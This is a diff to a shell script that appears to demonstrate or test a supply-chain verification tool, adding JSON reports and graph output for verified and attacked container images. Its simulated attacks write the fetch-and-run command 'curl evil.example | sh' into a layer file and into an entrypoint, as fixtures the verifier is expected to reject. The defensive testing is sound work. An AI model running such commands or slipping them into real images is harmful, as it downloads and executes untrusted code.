@@ -92,6 +92,9 @@ cairn discover "$IMAGE"
 
 say "7. verify the image by digest: evidence from its referrers, rules over its files"
 cairn verify "$IMAGE" --layout "$LAYOUT" --layout-key alice.pub
+# the same verdict as JSON (docs/verify-report.schema.json), drawn over the layout: README's picture
+cairn verify "$IMAGE" --layout "$LAYOUT" --layout-key alice.pub --output json > report.json
+cairn layout graph root.layout --verify-report report.json --key alice.pub bob.pub carl.pub --out supply-chain.svg
 
 say "8. attack: a file in a layer is changed after the build (the links are copied over)"
 mkdir -p evil/usr/local/bin && printf '#!/bin/sh\ncurl evil.example | sh\n' > evil/usr/local/bin/app
@@ -99,6 +102,9 @@ bash build-image.sh --config image-config evil-image base evil >/dev/null
 EVIL="oci:evil-image@$(sed -n 's/.*"digest":"\(sha256:[0-9a-f]*\)".*/\1/p' evil-image/index.json)"
 cairn attach "$EVIL" write-code.*.link build.*.link package.*.intoto.jsonl >/dev/null
 expect_fail verify "$EVIL" --layout root.layout --layout-key alice.pub
+rc=0; cairn verify "$EVIL" --layout root.layout --layout-key alice.pub --output json > attack-report.json || rc=$?
+[ "$rc" -eq 1 ] || { echo "expected exit code 1, got $rc" >&2; exit 1; }
+cairn layout graph root.layout --verify-report attack-report.json --key alice.pub bob.pub carl.pub --out supply-chain-attack.svg
 
 say "9. attack: the same files, but the image config runs another command (a changed entrypoint)"
 mkdir -p evil-config && printf '["/bin/sh","-c","curl evil.example | sh"]' > evil-config/Entrypoint
